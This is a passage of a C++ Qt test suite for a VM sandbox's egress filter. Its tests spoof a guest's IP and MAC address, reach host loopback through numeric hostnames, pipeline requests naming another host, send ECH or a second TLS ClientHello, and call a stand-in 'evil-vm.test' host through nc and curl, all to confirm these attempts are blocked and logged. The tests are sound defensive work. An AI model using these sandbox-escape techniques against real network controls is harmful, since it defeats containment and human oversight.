    const CtlResult fromA = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:8080/index.html"_s.arg(m_bIp)});
    QVERIFY(!fromA.out.contains("hello-from-b"));
}

// Through a remote host (a real sshd on loopback standing for the other machine) expose
// keeps B's port exposed there and forwards from this machine's loopback over the remote's
// own command, `airlockctl proxy --to`; exec goes the same way.
void TestEgressVm::aRemoteHostsExposedPortIsForwardedFromThisMachine()
{
    SshdProcess sshd;
    QVERIFY2(sshd.start(), qPrintable(sshd.error()));
    QTemporaryDir config;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(u"XDG_CONFIG_HOME"_s, config.path());
    env.remove(u"AIRLOCK_SOCKET"_s);
    auto ctlHere = [&](const QStringList &args, QProcess *p) {
        p->setProcessEnvironment(env);
        p->start(ctlBin(), args);
    };
    const QStringList command = sshd.sshCommand({ctlBin(), u"--socket"_s, m_daemon.socketPath(), u"proxy"_s});
    QProcess add;
    ctlHere(QStringList{u"remote"_s, u"add"_s, u"box"_s, u"--"_s} + command, &add);
    QVERIFY(add.waitForFinished(10000) && add.exitCode() == 0);

    QProcess exec;
    ctlHere({u"--remote"_s, u"box"_s, u"exec"_s, m_b, u"--"_s, u"echo"_s, u"said-through-box"_s}, &exec);
    QVERIFY(exec.waitForFinished(60000));
    QVERIFY2(exec.exitCode() == 0, exec.readAllStandardError().constData());
    QCOMPARE(exec.readAllStandardOutput(), QByteArray("said-through-box\n"));

    quint16 here = 0;
    {
        QTcpServer probe; // a port free on this machine, distinct from the one B has there
        QVERIFY(probe.listen(QHostAddress::LocalHost));
        here = probe.serverPort();
    }
    QProcess forward;
    ctlHere({u"--remote"_s, u"box"_s, u"expose"_s, m_b, u"8080"_s, u"--host-port"_s, QString::number(here)}, &forward);
    QByteArray said; // QTRY evaluates its condition once more at the end: keep what was read
    QTRY_VERIFY2_WITH_TIMEOUT((said += forward.readAllStandardOutput()).contains("of this machine while this runs"),
                              forward.readAllStandardError().constData(), 20000);
    for (int i = 0; i < 2; ++i) { // each connection gets its own run of the remote's command
        QByteArray page;
        QCOMPARE(airlock::test::run(u"curl"_s, {u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://127.0.0.1:%1/index.html"_s.arg(here)}, &page), 0);
        QCOMPARE(page, QByteArray("hello-from-b\n"));
    }
    QVERIFY(sshd.log().count(u"Accepted publickey"_s) >= 4); // add needs none; exec, expose and two connections do
    forward.terminate();
    QVERIFY(forward.waitForFinished(10000));
    QCOMPARE(forward.exitCode(), 0);
    QByteArray after;
    QVERIFY(airlock::test::run(u"curl"_s, {u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://127.0.0.1:%1/"_s.arg(here)}, &after) != 0);
    // The exposure on the remote stays, and only an exposed port is reached through proxy --to.
    QCOMPARE(m_daemon.ctl({u"ports"_s, m_b}).json().toArray().size(), 1);
    const CtlResult notExposed = m_daemon.ctl({u"proxy"_s, u"--to"_s, m_b + u":22"_s});
    QCOMPARE(notExposed.exitCode, 1);
    QVERIFY2(notExposed.err.contains("is not exposed"), notExposed.err.constData());
}

void TestEgressVm::changingTheGuestIpIsDropped()
{
    const QString spoof = m_aIp.section(u'.', 0, 2) + u".77"_s;
    // One script: move to another address, try, move back (exec runs over virtio-serial, not the network).
    const QString script = u"ip addr del %1/30 dev eth0; ip addr add %2/24 dev eth0; ip route add default via %3; "
                           "curl -sS --max-time 4 http://203.0.113.20/spoof; rc=$?; "
                           "ip addr del %2/24 dev eth0; ip addr add %1/30 dev eth0; ip route add default via %3; exit $rc"_s
                               .arg(m_aIp, spoof, m_aGw);
    const CtlResult r = guestSh(m_a, script);
    QVERIFY2(r.exitCode != 0, r.out.constData());
    const QJsonObject e = waitEvent(m_a, [spoof](const QJsonObject &o) {
        return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains(u"spoofed source "_s + spoof);
    });
    // Whether the guest first asks ARP from the forged address (dropped by the ARP table) or
    // still has the gateway cached and sends a forged IP packet, the attempt is recorded.
    QVERIFY2(!e.isEmpty(), qPrintable(u"no denied event recorded for the forged source "_s + spoof));
    for (const QByteArray &req : m_upstream.requests())
        QVERIFY(!req.contains("/spoof"));
    // Back on its own address the guest works again.
    const CtlResult again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/back"_s});
    QCOMPARE(again.out, QByteArray("hello from upstream\n"));
}

void TestEgressVm::changingTheGuestMacIsDropped()
{
    const CtlResult mac = guest(m_a, {u"cat"_s, u"/sys/class/net/eth0/address"_s});
    const QString original = QString::fromLatin1(mac.out).trimmed();
    QVERIFY2(original.count(u':') == 5, mac.out.constData());
    const QString script = u"ip link set eth0 down; ip link set eth0 address 52:54:00:66:66:66; ip link set eth0 up; "
                           "ip route add default via %2 2>/dev/null; curl -sS --max-time 4 http://allowed.test/mac; rc=$?; "
                           "ip link set eth0 down; ip link set eth0 address %1; ip link set eth0 up; "
                           "ip route add default via %2 2>/dev/null; exit $rc"_s.arg(original, m_aGw);
    const CtlResult r = guestSh(m_a, script);
    QVERIFY2(r.exitCode != 0, r.out.constData());
    const QString ip = m_aIp;
    const QJsonObject e = waitEvent(m_a, [ip](const QJsonObject &o) {
        return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains(u"spoofed source "_s + ip);
    });
    QVERIFY2(!e.isEmpty(), "no denied event for the changed MAC");
    for (const QByteArray &req : m_upstream.requests())
        QVERIFY(!req.contains("/mac"));
    const CtlResult again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/back-again"_s});
    QCOMPARE(again.out, QByteArray("hello from upstream\n"));
}

void TestEgressVm::rulesFollowTheSandboxAndSurviveADaemonRestart()
{
    const qsizetype guarded = nftTable().count("jump sb");
    QVERIFY(guarded >= 2);
    // Restart airlockd with both guests running: the table stays meanwhile, reconcile guards them again.
    m_daemon.stop();
    QCOMPARE(nftTable().count("jump sb"), guarded);
    QString error;
    QVERIFY2(m_daemon.start(DaemonHarness::sharedDataDir(), &error), qPrintable(error));
    QVERIFY(m_daemon.ctl({u"status"_s}).json().toObject().value("egress"_L1).toObject().value("sandboxes"_L1).toInt() >= 2);
    QCOMPARE(nftTable().count("jump sb"), guarded);
    const CtlResult again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/restarted"_s});
    QCOMPARE(again.out, QByteArray("hello from upstream\n"));
    const CtlResult gw = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:2222/"_s.arg(m_aGw)});
    QVERIFY(gw.exitCode != 0);
    // B's exposed port listens again after the restart (reconcile), and goes when B stops.
    QVERIFY(m_exposedHostPort > 0);
    const QString exposedUrl = u"http://127.0.0.1:%1/index.html"_s.arg(m_exposedHostPort);
    QByteArray page;
    QCOMPARE(airlock::test::run(u"curl"_s, {u"-sS"_s, u"--max-time"_s, u"20"_s, exposedUrl}, &page), 0);
    QCOMPARE(page, QByteArray("hello-from-b\n"));

    // Killing B takes its rules away; A's stay and A still works.
    QCOMPARE(m_daemon.ctl({u"kill"_s, m_b}).exitCode, 0);
    QCOMPARE(nftTable().count("jump sb"), guarded - 1);
    QVERIFY(!nftTable().contains(m_bGw.toLatin1()));
    QVERIFY(airlock::test::run(u"curl"_s, {u"-sS"_s, u"--max-time"_s, u"5"_s, exposedUrl}) != 0);
    const QJsonArray ports = m_daemon.ctl({u"ports"_s, m_b}).json().toArray();
    QCOMPARE(ports.size(), 1); // kept for the next start
    QVERIFY(!ports.at(0).toObject().value("listening"_L1).toBool());
    const CtlResult still = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/still"_s});
    QCOMPARE(still.out, QByteArray("hello from upstream\n"));
}

void TestEgressVm::aSandboxWhoseNetworkCannotBeGuardedDoesNotStart()
{
    // Something else holds the resolver's port on the new sandbox's gateway: the broker cannot
    // guard it, so the guest must not start (fail closed), and the error says why.
    const QString c = uniqueName(u"evm-c"_s);
    const CtlResult created = m_daemon.ctl({u"create"_s, c, u"--memory"_s, u"256"_s});
    QCOMPARE(created.exitCode, 0);
    const QString cIp = created.json().toObject().value("ip"_L1).toString();
    const QString cGw = cIp.section(u'.', 0, 2) + u"."_s + QString::number(cIp.section(u'.', 3, 3).toInt() - 1);
    Sentinel squatter;
    QVERIFY2(squatter.start(SOCK_DGRAM, cGw, 15053, false), "cannot bind the resolver port on the new gateway");
    const CtlResult start = m_daemon.ctl({u"start"_s, c});
    QCOMPARE(start.exitCode, 1);
    QVERIFY2(start.err.contains("network cannot be guarded") && start.err.contains("15053"), start.err.constData());
    QCOMPARE(sandboxRow(c).value("state"_L1).toString(), u"stopped"_s);
    QCOMPARE(m_daemon.ctl({u"rm"_s, c}).exitCode, 0);
}

void TestEgressVm::aGuestThatPowersItselfOffIsNoLongerGuarded()
{
    QVERIFY(nftTable().contains(m_aGw.toLatin1()));
    // The guest agent dies with the guest: the exec itself need not answer.
    QProcess *p = guestAsync(m_a, {u"poweroff"_s, u"-f"_s});
    QElapsedTimer t;
    t.start();
    while (nftTable().contains(m_aGw.toLatin1()) && t.elapsed() < 30000)
        QTest::qWait(250);
    QVERIFY2(!nftTable().contains(m_aGw.toLatin1()), "the rules of a guest that powered itself off stayed");
    QCOMPARE(sandboxRow(m_a).value("state"_L1).toString(), u"stopped"_s);
    p->waitForFinished(10000);
}

void TestEgressVm::aSandboxCreatedUnderARemovedOnesNameHasNoHistory()
{
    // A's attempts are keyed by its sandbox id: the next sandbox named A starts empty.
    QVERIFY(!events(m_a).isEmpty());
    QCOMPARE(m_daemon.ctl({u"rm"_s, m_a}).exitCode, 0);
    QVERIFY2(!events(m_a).isEmpty(), "a removed sandbox's history is still readable by its name");
    QCOMPARE(m_daemon.ctl({u"create"_s, m_a, u"--memory"_s, u"256"_s}).exitCode, 0);
    const CtlResult fresh = m_daemon.ctl({u"egress"_s, u"ls"_s, m_a}, 30000);
    QCOMPARE(fresh.exitCode, 0);
    QCOMPARE(QJsonDocument::fromJson(fresh.out).array().size(), 0);
}

void TestEgressVm::numericNamesReachNothingOnTheHost()
{
    // Everything allowed by name, and a host service on airlockd's loopback: a name that is a
    // number (2130706433 and 0x7f.1 both read as 127.0.0.1) must still lead nowhere.
    const CtlResult up = startAgain(m_b); // killed in rulesFollowTheSandboxAndSurviveADaemonRestart
    QVERIFY2(up.exitCode == 0, up.err.constData());
    const CtlResult any = m_daemon.ctl({u"rule"_s, u"add"_s, u"--sandbox"_s, m_b, u"--action"_s, u"allow"_s, u"--host"_s, u"*"_s});
    QCOMPARE(any.exitCode, 0);
    Sentinel hostService;
    QVERIFY(hostService.start(SOCK_STREAM, u"127.0.0.1"_s, 18089));
    // The plain way: curl with the numeric name (curl may turn it into the guest's own 127.0.0.1).
    for (const QString &url : {u"http://2130706433:18089/"_s, u"http://0x7f.1:18089/"_s}) {
        const CtlResult r = guest(m_b, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, url});
        QVERIFY2(r.exitCode != 0, qPrintable(url + u": "_s + QString::fromUtf8(r.out)));
    }
    // The broker's way: ask its resolver for the numeric name, then dial the address it gave
    // with the name as Host (what a guest resolver that does not know numbers would do).
    for (const QString &name : {u"2130706433"_s, u"0x7f.1"_s}) {
        const QString script = u"a=$(nslookup %1 %2 | grep -o '198\\.1[89]\\.[0-9.]*' | tail -n 1); echo \"synthetic=$a\"; "
                               "[ -n \"$a\" ] && curl -sS --max-time 10 -H 'Host: %1:18089' http://$a:18089/; true"_s.arg(name, m_bGw);
        const CtlResult r = guestSh(m_b, script);
        QVERIFY2(r.out.contains("synthetic=\n"), qPrintable(name + u": "_s + QString::fromUtf8(r.out)));
        const QJsonObject e = waitEvent(m_b, [name](const QJsonObject &o) {
            return o.value("proto"_L1).toString() == "dns"_L1 && o.value("host"_L1).toString() == name &&
                   o.value("decision"_L1).toString() == "denied"_L1;
        });
        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied dns event for "_s + name));
        const QString reason = e.value("reason"_L1).toString();
        QVERIFY2(reason.contains("numeric"_L1) || reason.contains("an address, not a name"_L1), qPrintable(reason));
    }
    QVERIFY2(!hostService.heardAnything(), "a numeric name reached a service on the host's loopback");
    QCOMPARE(m_daemon.ctl({u"rule"_s, u"rm"_s, QString::number(any.json().toObject().value("id"_L1).toInteger())}).exitCode, 0);
}

// --- Every byte of a flow decided on a name passes its checker ---------------------------

// Starts `name` again when a case above stopped it, and waits until its agent answers.
CtlResult TestEgressVm::startAgain(const QString &name)
{
    if (sandboxRow(name).value("state"_L1).toString() == "running"_L1)
        return CtlResult{0, {}, {}};
    const CtlResult started = m_daemon.ctl({u"start"_s, name}, 300000);
    if (started.exitCode != 0)
        return started;
    QElapsedTimer t;
    t.start();
    while (guestSh(name, u"true"_s, 20000).exitCode != 0 && t.elapsed() < 180000)
        QTest::qWait(1000);
    return started;
}

// Runs `script` in guest A, which the cases above stopped (or removed and created again):
// started again once, with its allow rule for allowed.test (a new A has none).
// $ip is allowed.test's synthetic address (busybox nc takes addresses, not names).
CtlResult TestEgressVm::checkerSh(const QString &script)
{
    if (!m_checkerServers) {
        bool listening = false;
        airlock::test::inNamespace(m_outside.name(), [&] { listening = m_keepAlive.start(kOutside, 8081) && m_retrying.start(kOutside, 8443); });
        if (!listening)
            return CtlResult{1, {}, "cannot listen on 203.0.113.20:8081 and :8443"};
        m_checkerServers = true;
        // Refused as a duplicate when A's rule is still there: either way A may reach allowed.test.
        m_daemon.ctl({u"rule"_s, u"add"_s, u"--sandbox"_s, m_a, u"--action"_s, u"allow"_s, u"--host"_s, u"allowed.test"_s});
    }
    if (const CtlResult started = startAgain(m_a); started.exitCode != 0)
        return started;
    const QString prologue = u"ip=$(nslookup allowed.test | grep -o '198\\.1[89]\\.[0-9.]*' | tail -1); "_s;
    return guestSh(m_a, prologue + script, 120000);
}

void TestEgressVm::pipelinedAndKeepAliveRequestsAreEachChecked()
{
    // Two requests in one write, the second naming another host.
    const CtlResult pipelined = checkerSh(
        u"printf 'GET /vm-p1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /vm-p2 HTTP/1.1\\r\\nHost: evil-vm.test\\r\\n\\r\\n'"
        " | timeout 6 nc $ip 8081; echo; echo rc=$?"_s);
    QVERIFY2(pipelined.out.contains("rc="), QByteArray(pipelined.out + pipelined.err).constData());
    QVERIFY2(!pipelined.out.contains("200 OK"), pipelined.out.constData());
    // Keep-alive: the first request is answered, the second (another host) never leaves.
    const CtlResult keepAlive = checkerSh(
        u"(printf 'GET /vm-k1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'; sleep 3; "
        "printf 'GET /vm-k2 HTTP/1.1\\r\\nHost: evil-vm.test\\r\\n\\r\\n'; sleep 3) | timeout 10 nc $ip 8081"_s);
    QCOMPARE(keepAlive.out.count("200 OK"), 1);
    QVERIFY(m_keepAlive.received().contains("/vm-k1"));
    QVERIFY2(!m_keepAlive.received().contains("evil-vm.test"), m_keepAlive.received().constData());
    QVERIFY2(!waitEvent(m_a, [](const QJsonObject &o) {
                  return o.value("reason"_L1).toString().contains("request 2 on the connection: HTTP Host evil-vm.test"_L1);
              }).isEmpty(), qPrintable(tcpEvents(m_a)));
}

void TestEgressVm::blankLinesOddMethodsNoHostAndAbsoluteUrlsAreChecked()
{
    const QString code = u" -sS --max-time 20 -o /dev/null -w '%{http_code}\\n' "_s;
    const CtlResult r = checkerSh(
        u"printf '\\r\\n\\r\\nGET /vm-b HTTP/1.1\\r\\nHost: evil-vm.test\\r\\n\\r\\n' | timeout 6 nc $ip 8081 | head -1; "_s +
        u"curl"_s + code + u"-X get -H 'Host: evil-vm.test' http://allowed.test:8081/vm-get; "_s +
        u"curl"_s + code + u"-X M-SEARCH -H 'Host: evil-vm.test' http://allowed.test:8081/vm-msearch; "_s +
        u"curl"_s + code + u"-0 -H 'Host:' http://allowed.test:8081/vm-nohost; "_s +
        u"curl"_s + code + u"--request-target http://evil-vm.test/vm-abs http://allowed.test:8081/; "_s +
        u"curl"_s + code + u"http://allowed.test:8081/vm-fine"_s);
    const QList<QByteArray> lines = r.out.trimmed().split('\n');
    QVERIFY2(lines.size() == 6, r.out.constData());
    QVERIFY2(lines.at(0).startsWith("HTTP/1.1 403"), r.out.constData()); // blank lines, then another host
    for (int i = 1; i <= 4; ++i)
        QVERIFY2(lines.at(i) != "200", r.out.constData()); // 403 page, or the connection cut (000)
    QCOMPARE(lines.at(5), QByteArray("200"));
    const QByteArray seen = m_keepAlive.received();
    QVERIFY(seen.contains("/vm-fine"));
    for (const char *path : {"/vm-b", "/vm-get", "/vm-msearch", "/vm-nohost", "/vm-abs", "evil-vm.test"})
        QVERIFY2(!seen.contains(path), path);
    QVERIFY2(!waitEvent(m_a, [](const QJsonObject &o) { return o.value("reason"_L1).toString().contains("without a Host"_L1); }).isEmpty(),
             qPrintable(tcpEvents(m_a)));
    QVERIFY2(!waitEvent(m_a, [](const QJsonObject &o) { return o.value("reason"_L1).toString().contains("names evil-vm.test"_L1); }).isEmpty(),
             qPrintable(tcpEvents(m_a)));
}

void TestEgressVm::echAndASecondClientHelloAfterARetryAreRefused()
{
    const QByteArray ech = tlstest::printfEscaped(tlstest::clientHello("allowed.test", {{0xfe0d, QByteArray("ech-inner-evil-vm")}}));
    const QByteArray first = tlstest::printfEscaped(tlstest::clientHello("allowed.test"));
    const QByteArray second = tlstest::printfEscaped(tlstest::record(20, "\x01") + tlstest::clientHello("evil-vm.test"));
    const CtlResult r = checkerSh(u"printf '%1' | timeout 5 nc $ip 443 | wc -c; "
                                  "(printf '%2'; sleep 3; printf '%3'; sleep 2) | timeout 8 nc $ip 8443 | wc -c"_s
                                      .arg(QString::fromLatin1(ech), QString::fromLatin1(first), QString::fromLatin1(second)));
    const QList<QByteArray> counts = r.out.trimmed().split('\n');
    QVERIFY2(counts.size() == 2, QByteArray(r.out + r.err).constData());
    QCOMPARE(counts.at(0).trimmed(), QByteArray("0"));                                          // ECH: nothing came back
    QCOMPARE(counts.at(1).trimmed().toInt(), int(tlstest::serverHello(true).size())); // the retry request, then the cut
    for (const QByteArray &hello : m_tlsUpstream.requests())
        QVERIFY2(!hello.contains("ech-inner-evil-vm"), "an ECH ClientHello reached the upstream");
    QVERIFY2(!m_retrying.received().contains("evil-vm.test"), "the second ClientHello reached the upstream");
    QVERIFY(m_retrying.received().contains("allowed.test"));
    QVERIFY2(!waitEvent(m_a, [](const QJsonObject &o) { return o.value("reason"_L1).toString().contains("Encrypted Client Hello"_L1); }).isEmpty(),
             qPrintable(tcpEvents(m_a)));
    QVERIFY2(!waitEvent(m_a, [](const QJsonObject &o) {
                  return o.value("reason"_L1).toString().contains("after a HelloRetryRequest: TLS SNI evil-vm.test"_L1);
              }).isEmpty(), qPrintable(tcpEvents(m_a)));
}

QJsonObject TestEgressVm::askFromA(const QString &path, QProcess **curl)
{
    *curl = guestAsync(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"100"_s, u"http://ask.test"_s + path});
    const QString a = m_a;
    return waitPending([a](const QJsonObject &o) {
        return o.value("sandbox"_L1).toString() == a && o.value("host"_L1).toString() == "ask.test"_L1;
    }, 60000);
}

void TestEgressVm::aRuleWaitingForTheDatabaseHoldsNoOtherRequest()
{
    QVERIFY2(startAgain(m_a).exitCode == 0, m_daemon.log().right(3000).constData());
    QProcess *p = nullptr;
    const QJsonObject item = askFromA(u"/while-busy"_s, &p);
    QVERIFY2(!item.isEmpty(), "the guest's request to ask.test never became pending");
    // Another program holds the database's write lock: the rule egress.decide writes waits
    // for it (within the store's 5 s busy timeout), and meanwhile the API answers at once.
    QSqlDatabase holder = QSqlDatabase::addDatabase(u"QSQLITE"_s, u"holder"_s);
    holder.setDatabaseName(DaemonHarness::sharedDataDir() + u"/airlock.db"_s);
    QVERIFY(holder.open());
    QSqlQuery lock(holder);
    QVERIFY2(lock.exec(u"BEGIN IMMEDIATE"_s), qPrintable(lock.lastError().text()));
    QElapsedTimer held;
    held.start();
    QProcess decide;
    decide.start(ctlBin(), {u"--socket"_s, m_daemon.socketPath(), u"egress"_s, u"allow"_s,
                            QString::number(item.value("id"_L1).toInteger()), u"--scope"_s, u"sandbox"_s});
    QVERIFY(decide.waitForStarted());
    QTest::qWait(500); // the decision reaches the daemon and waits for the lock
    QCOMPARE(decide.state(), QProcess::Running);
    QElapsedTimer asked;
    asked.start();
    const CtlResult status = m_daemon.ctl({u"status"_s}, 10000);
    const CtlResult pending = m_daemon.ctl({u"egress"_s, u"ls"_s, u"--pending"_s}, 10000);
    const qint64 answeredMs = asked.elapsed();
    const qint64 heldMs = held.elapsed();
    QTest::qWait(int(std::max<qint64>(0, 3000 - held.elapsed())));
    QVERIFY(lock.exec(u"COMMIT"_s));
    lock.finish();
    holder.close();
    QCOMPARE(status.exitCode, 0);
    QCOMPARE(pending.exitCode, 0);
    // Answered while the lock was still held (a main thread waiting on SQLite answers only after).
    QVERIFY2(answeredMs < 2000 && heldMs < 2900, qPrintable(u"status and egress ls --pending took %1 ms"_s.arg(answeredMs)));
    QVERIFY(decide.waitForFinished(30000));
    QVERIFY2(decide.exitCode() == 0, decide.readAllStandardError().constData());
    QVERIFY(p->waitForFinished(60000));
    QCOMPARE(p->readAllStandardOutput(), QByteArray("hello from upstream\n"));
}

void TestEgressVm::commandsPastTheUsersBoundAreRefusedAtOnce()
{
    QVERIFY2(startAgain(m_a).exitCode == 0, m_daemon.log().right(3000).constData());
    // Four commands without a timeout: the most one user may have running (ExecSlots::kPerOwner).
    QList<QProcess *> sleepers;
    for (int i = 0; i < 4; ++i)
        sleepers.append(guestAsync(m_a, {u"sleep"_s, u"20"_s}));
    for (QProcess *s : sleepers)
        QVERIFY(s->waitForStarted());
    QTest::qWait(2000); // they reach the daemon
    QElapsedTimer t;
    t.start();
    const CtlResult fifth = guest(m_a, {u"true"_s}, 15000);
    QVERIFY2(fifth.exitCode != 0, "a fifth command of the same user ran");
    QVERIFY2(fifth.err.contains("4 of your commands already run"), fifth.err.constData());
    QVERIFY2(t.elapsed() < 10000, "the refusal waited for the running commands");
    // Other sandbox work still runs meanwhile: boot waits, stops and copies have their own pool.
    QCOMPARE(m_daemon.ctl({u"ls"_s}, 10000).exitCode, 0);
    for (QProcess *s : sleepers) {
        QVERIFY(s->waitForFinished(60000));
        QCOMPARE(s->exitCode(), 0);
    }
    // The slots came back.
    QCOMPARE(guest(m_a, {u"true"_s}, 30000).exitCode, 0);
}

QTEST_GUILESS_MAIN(TestEgressVm)
#include "test_egressvm.moc"
